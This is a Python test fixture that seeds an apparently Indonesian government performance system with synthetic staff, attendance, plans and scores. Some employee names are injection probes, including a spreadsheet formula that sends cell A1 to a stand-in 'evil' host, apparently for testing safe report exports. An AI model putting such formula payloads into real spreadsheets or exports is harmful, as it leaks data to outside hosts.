"""Four units and three published months, of which reports tell."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

from tests.journey.conftest import Installation

MONTHS = ("2026-07", "2026-08", "2026-09")
MONTH = MONTHS[-1]
KRIDA = "2026-09-04"
PUNCTUAL = 6
PEOPLE = {"BAPPEDA": 5, "CAMAT": 3, "DINKES": 7, "DISDIK": 9}
EVIL = "=HYPERLINK(\"http://evil/\"&A1;'click')"
NAMES = (EVIL, "+62 Ahmad", "-Noor", "@Siti", "Dewi & <b>Rizal</b>")


ASPECTS = (
    "rencana_strategis",
    "perjanjian_kinerja",
    "pengukuran_kinerja",
    "pengelolaan_data",
    "pelaporan_kinerja",
    "reviu_evaluasi",
)


def people_of(name_nip: Callable[[int], str]) -> dict[str, tuple[str, str]]:
    """By NIP: unit and name."""
    found: dict[str, tuple[str, str]] = {}
    for unit, count in PEOPLE.items():
        for _ in range(count):
            number = len(found) + 1
            name = NAMES[number - 1] if number <= len(NAMES) else f"Pegawai Nomor{number:02}"
            found[name_nip(number)] = (unit, name)
    return found


def workdays(month: str) -> list[date]:
    first = date.fromisoformat(f"{month}-01")
    days = (first + timedelta(days=offset) for offset in range(31))
    return [day for day in days if f"{day:%Y-%m}" == month and day.isoweekday() <= 5]


def punches(people: dict[str, tuple[str, str]]) -> Iterator[dict[str, str]]:
    """People come at 7:20 and leave at 16:40; the n-th is late or absent on days that n decides."""
    for number, (_nip, (unit, _)) in enumerate(people.items(), start=1):
        for month in MONTHS:
            for day in workdays(month):
                if number != PUNCTUAL and (day.day + 3 * number) % 29 == 0:
                    continue
                late = number != PUNCTUAL and (day.day * number) % 11 == 3
                for clock in ("07:55:10" if late else "07:20:00", "16:40:00"):
                    yield {"terminal": unit.lower(), "pin": str(number), "clock": f"{day} {clock}"}


def activities(people: dict[str, tuple[str, str]]) -> Iterator[dict[str, Any]]:
    """Six hours on most days; DINKES does less each month, CAMAT as much as it can."""
    for number, (nip, (unit, _)) in enumerate(people.items(), start=1):
        for place, month in enumerate(MONTHS):
            for day in workdays(month):
                if (day.day + 3 * number) % 29 == 0 or (day.day + number) % 9 == 0:
                    continue
                fewer = 2 * place if unit == "DINKES" else 1 - place if unit == "DISDIK" else -1
                end = 15 - fewer
                yield {
                    "id": f"{nip}-{day}",
                    "nip": nip,
                    "date": day,
                    "start": "08:00",
                    "end": f"{end:02}:00",
                    "description": "pelayanan",
                    "status": "approved",
                    "approved_minutes": (end - 8) * 60,
                    "plan": "P-1" if unit == "DISDIK" and day.day % 2 else None,
                }


@dataclass
class County:
    """An installation with three published months; its people by NIP: unit and name."""

    installation: Any
    people: dict[str, tuple[str, str]]


def measures(installation: Installation) -> None:
    """Plans that are done, late, to do and untold; tasks and staff; SAKIP of two years; meetings and innovations."""
    plans = [
        ("P-1", "DISDIK", "2026-09-30", 100_000_000),
        ("P-2", "DISDIK", "2026-12-15", 50_000_000),
        ("P-3", "DINKES", "2026-08-20", 80_000_000),
        ("P-4", "DINKES", "2026-09-10", None),
        ("P-5", "CAMAT", "2026-11-30", 10_000_000),
    ]
    installation.load(
        "plans",
        [
            {
                "code": code,
                "unit": unit,
                "name": f"Program {code}",
                "due_date": due,
                "target_output": "12 sekolah",
                "budget_rp": budget,
            }
            for code, unit, due, budget in plans
        ],
    )
    reports = [
        ("P-1", "2026-09", "100", "100", 99_000_000),
        ("P-2", "2026-08", "40", "35.5", 30_000_000),
        ("P-3", "2026-08", "100", "60", 70_000_000),
    ]
    installation.load(
        "plan_progress",
        [
            {"plan": plan, "month": month, "planned_pct": planned, "physical_pct": physical, "realised_rp": money}
            | {"document": "BA-1", "status": "approved"}
            for plan, month, planned, physical, money in reports
        ],
    )
    tasks = [("DINKES", "Perawat", "500", "day", "10"), ("DINKES", "Analis", "1.5", "month", "6250")]
    tasks += [("DISDIK", "Guru", "12", "week", "1500"), ("CAMAT", "Camat", "1", "year", "75000")]
    installation.load(
        "workload_tasks",
        [
            {"unit": unit, "job": job, "task": "tugas", "volume": volume, "per": per, "standard_minutes": minutes}
            for unit, job, volume, per, minutes in tasks
        ],
    )
    staff = [("DINKES", "Perawat", 5), ("DINKES", "Analis", 7), ("DISDIK", "Guru", 15), ("CAMAT", "Camat", 1)]
    installation.load("staff", [{"unit": unit, "job": job, "count": count} for unit, job, count in staff])
    installation.load(
        "sakip",
        [
            {"unit": unit, "year": year, "aspect": aspect, "score": base + 2 * place + (year - 2025) * 3}
            for unit, base in (("DINKES", 72), ("DISDIK", 86), ("CAMAT", 55))
            for year in (2025, 2026)
            for place, aspect in enumerate(ASPECTS)
            if (unit, year, place) != ("CAMAT", 2026, 5)
        ],
    )
    installation.load(
        "evaluation_meetings",
        [{"unit": "DISDIK", "date": day, "topic": "Evaluasi"} for day in ("2026-09-02", "2026-09-16", "2026-08-05")],
    )
    installation.load(
        "innovations",
        [
            {"code": "I-1", "unit": "DISDIK", "name": "=Sekolah Pintar", "started": "2026-03-01"},
            {"code": "I-2", "unit": "DINKES", "name": "Jemput Bola", "started": "2025-03-01", "ended": "2025-12-31"},
        ],
    )


def publish_all(county: County) -> None:
    """Import four units and publish three months of them."""
    installation, people = county.installation, county.people
    installation.load(
        "units",
        [
            {"code": unit, "name": f"Dinas {unit.title()}", "timezone": "Asia/Makassar", "head_nip": head}
            for unit, head in {unit: nip for nip, (unit, _) in people.items()}.items()
        ],
    )
    installation.load(
        "employees",
        [
            {"nip": nip, "name": name, "unit": unit, "allowance_rp": 4_000_000, "valid_from": "2026-01-01"}
            | {"position": "Perawat" if unit == "DINKES" else None}
            for nip, (unit, name) in people.items()
        ],
    )
    installation.load(
        "enrolments",
        [
            {"terminal": unit.lower(), "pin": number, "nip": nip}
            for number, (nip, (unit, _)) in enumerate(people.items(), start=1)
        ],
    )
    installation.load("punches", list(punches(people)), "--complete-until", "2026-10-01 08:00")
    installation.load("activities", list(activities(people)))
    installation.load(
        "events",
        [{"code": "KRIDA-1", "kind": "krida", "unit": "*", "date": KRIDA, "opens": "07:15", "closes": "07:45"}],
    )
    installation.load(
        "event_attendance",
        [
            {
                "event": "KRIDA-1",
                "nip": nip,
                "status": "excused" if number == 2 else "present",
                "uniform": None if number == 2 else "yes" if number % 3 else "no",
            }
            for number, nip in enumerate(people)
            if number % 4
        ],
    )
    measures(installation)
    for month in MONTHS:
        installation.ok("score", "run", "--month", month)
        installation.ok("period", "close", month, "--yes")
